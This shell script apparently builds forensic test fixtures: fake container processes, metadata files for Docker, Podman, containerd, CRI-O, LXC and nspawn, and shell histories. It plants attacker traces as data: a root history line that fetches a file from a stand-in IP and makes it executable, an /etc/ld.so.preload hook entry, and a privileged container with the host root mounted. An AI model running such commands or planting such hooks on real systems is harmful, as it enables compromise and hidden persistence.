# Processes in control groups and on overlays as container engines make them, with the engines' own files, made by hand in the
# engines' forms: the sources are named at each. guest/people_init.sh sources it.
C=/sys/fs/cgroup
mount -t cgroup2 cgroup2 $C
hex() { printf '%s%s%s%s' "$1" "$1" "$1" "$1"; } # 64 digits of 16

# $1 comm, $2 control group, $3 lower, $4 upper, $5 merged: a process in it, with namespaces of its own and the overlay as root;
# $6: where in it the host's root is mounted
contain() {
    mkdir -p "$C/$2" "$3/bin" "$3/etc" "$3/proc" "$4" "$4.work" "$5"
    cp /usr/libexec/actor "$3/bin/$1"
    mount -t overlay -o "lowerdir=$3,upperdir=$4,workdir=$4.work" overlay "$5"
    [ -z "$6" ] || { mkdir "$5$6" && mount --bind / "$5$6"; }
    (
        echo 0 > "$C/$2/cgroup.procs"
        exec unshare --mount --pid --uts --net --fork sh -c "hostname $1-host; exec chroot '$5' '/bin/$1' idle"
    ) < /dev/null > /dev/null 2>&1 &
    until pgrep -x "$1" > /dev/null; do :; done
}

# docker (moby daemon/container.go, config.v2.json; cgroup driver systemd)
D=$(hex d0c4e70000000001)
DIR=/var/lib/docker/containers/$D
mkdir -p "$DIR"
contain webapp "system.slice/docker-$D.scope" /var/lib/machines/docker/l1/diff /var/lib/machines/docker/u1/diff /var/lib/machines/docker/u1/merged /host
PID=$(pgrep -x webapp)
cat > "$DIR/config.v2.json" << END
{"StreamConfig":{},"State":{"Running":true,"Paused":false,"Pid":$PID,"StartedAt":"2026-11-22T08:10:00.123456789Z"},"ID":"$D",
"Created":"2026-11-21T10:00:00.5Z","Path":"/bin/webapp","Args":["idle"],"Config":{"Hostname":"webapp-host","Image":"registry.example/web:1.2",
"ExposedPorts":{"80/tcp":{}},"Env":["SECRET=hunter2"],"Labels":{"com.example":"x"}},"Image":"sha256:$(hex 1234567890abcdef)","Name":"/web",
"Driver":"overlay2","MountPoints":{"/data":{"Source":"/srv/data","Destination":"/data","RW":true,"Type":"bind"}},
"NetworkSettings":{"Ports":{"80/tcp":[{"HostIp":"0.0.0.0","HostPort":"8080"}]}}}
END
echo '{"Binds":["/:/host"],"Privileged":true,"PortBindings":{"80/tcp":[{"HostIp":"","HostPort":"8080"}]},"NetworkMode":"bridge"}' > "$DIR/hostconfig.json"
# one that does not run, and one whose file is damaged
D2=$(hex d0c4e70000000002)
mkdir -p "/var/lib/docker/containers/$D2" "/var/lib/docker/containers/$(hex d0c4e70000000003)"
echo "{\"State\":{\"Running\":false,\"Pid\":0},\"ID\":\"$D2\",\"Created\":\"2026-11-20T10:00:00Z\",\"Config\":{\"Image\":\"alpine\"},\"Name\":\"/old\"}" > "/var/lib/docker/containers/$D2/config.v2.json"
echo '{"ID": [[[[' > "/var/lib/docker/containers/$(hex d0c4e70000000003)/config.v2.json"

# podman (containers/storage containers.json; OCI config.json with annotations)
P=$(hex 90d3a40000000001)
S=/var/lib/containers/storage/overlay-containers
mkdir -p "$S/$P/userdata"
contain podapp "machine.slice/libpod-$P.scope/container" /var/lib/machines/podman/l/diff /var/lib/machines/podman/u/diff /var/lib/machines/podman/u/merged
echo "[{\"id\":\"$P\",\"names\":[\"db\"],\"image\":\"$(hex abcdef1234567890)\",\"layer\":\"$(hex 1111111111111111)\",\"metadata\":\"{\\\"image-name\\\":\\\"docker.io/library/postgres:15\\\",\\\"name\\\":\\\"db\\\",\\\"pod-name\\\":\\\"\\\"}\",\"created\":\"2026-11-21T11:00:00Z\"}]" > $S/containers.json
echo '{"ociVersion":"1.0.2","hostname":"podapp-host","process":{"args":["/bin/podapp","idle"]},"root":{"path":"/var/lib/machines/podman/u/merged"},"mounts":[{"destination":"/var/lib/postgresql","type":"bind","source":"/srv/pg"},{"destination":"/proc","type":"proc","source":"proc"}]}' > "$S/$P/userdata/config.json"

# containerd below Kubernetes (cri annotations of pkg/cri/annotations) and CRI-O
K=$(hex c0d0000000000001)
POD=kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod0a1b2c3d_0000_1111_2222_333344445555.slice
R=/run/containerd/io.containerd.runtime.v2.task/k8s.io/$K
mkdir -p "$R"
contain kubeapp "$POD/cri-containerd-$K.scope" /var/lib/machines/k/1/fs /var/lib/machines/k/2/fs /var/lib/machines/k/rootfs
pgrep -x kubeapp > "$R/init.pid"
echo "{\"ociVersion\":\"1.1.0\",\"hostname\":\"kubeapp-host\",\"process\":{\"args\":[\"/bin/kubeapp\"]},\"root\":{\"path\":\"rootfs\"},\"mounts\":[{\"destination\":\"/etc/hosts\",\"type\":\"bind\",\"source\":\"/var/lib/kubelet/pods/0a1b2c3d-0000-1111-2222-333344445555/etc-hosts\"}],\"annotations\":{\"io.kubernetes.cri.container-name\":\"nginx\",\"io.kubernetes.cri.container-type\":\"container\",\"io.kubernetes.cri.image-name\":\"docker.io/library/nginx:1.25\",\"io.kubernetes.cri.sandbox-name\":\"front-7d9\",\"io.kubernetes.cri.sandbox-namespace\":\"prod\"}}" > "$R/config.json"
O=$(hex c210000000000001)
R=/run/containers/storage/overlay-containers/$O/userdata
mkdir -p "$R"
contain crioapp "kubepods.slice/kubepods-pod99999999_0000_1111_2222_333344445555.slice/crio-$O.scope" /var/lib/machines/c/1 /var/lib/machines/c/2 /var/lib/machines/c/m
echo '{"hostname":"crioapp-host","annotations":{"io.kubernetes.container.name":"api","io.kubernetes.cri-o.ImageName":"quay.io/x/api:3","io.kubernetes.pod.name":"api-0","io.kubernetes.pod.namespace":"dev"}}' > "$R/config.json"

# LXC and systemd-nspawn
mkdir -p /var/lib/lxc/legacy /run/systemd/machines
contain lxcapp lxc.payload.legacy /var/lib/machines/lxc/l /var/lib/machines/lxc/u /var/lib/machines/lxc/m
printf 'lxc.uts.name = legacy\nlxc.rootfs.path = dir:/var/lib/machines/lxc/m\nlxc.mount.entry = /srv/share srv none bind 0 0\n' > /var/lib/lxc/legacy/config
contain nspawnapp "machine.slice/systemd-nspawn@box.service/payload" /var/lib/machines/box.l /var/lib/machines/box.u /var/lib/machines/box
printf '# This is private data. Do not parse.\nNAME=box\nSERVICE=systemd-nspawn\nROOT=/var/lib/machines/box\nLEADER=%s\nCLASS=container\nREALTIME=1795600000000000\n' "$(pgrep -x nspawnapp)" > /run/systemd/machines/box

# a process that sits in no engine's group, but on an overlay of its own; and one that sees a part of a disk as its root
contain stray stray /var/lib/machines/s/l /var/lib/machines/s/u /var/lib/machines/s/m
chroot /cold /bin/thawing idle < /dev/null > /dev/null 2>&1 &
until pgrep -x thawing > /dev/null; do :; done

# histories of shells, with and without times
printf 'id\n#1795500000\nwget http://203.0.113.9/x\n#1795500060\nchmod +x x\n' > /root/.bash_history
printf ': 1795500100:0;echo zsh\n: 1795500101:5;sleep 5\nplain\n' > /home/alice/.zsh_history
mkdir -p /home/alice/.local/share/fish
printf -- '- cmd: echo fish\n  when: 1795500200\n  paths:\n    - x\n' > /home/alice/.local/share/fish/fish_history

put /etc/ld.so.preload 644 << 'END'
/usr/local/lib/hook.so
END

# the end: what a disk had is forgotten, but for what is read again
sync
echo 3 > /proc/sys/vm/drop_caches
head -c 100 /cold/etc/group > /dev/null
dd if=/cold/etc/passwd of=/dev/null bs=4096 count=1 2> /dev/null
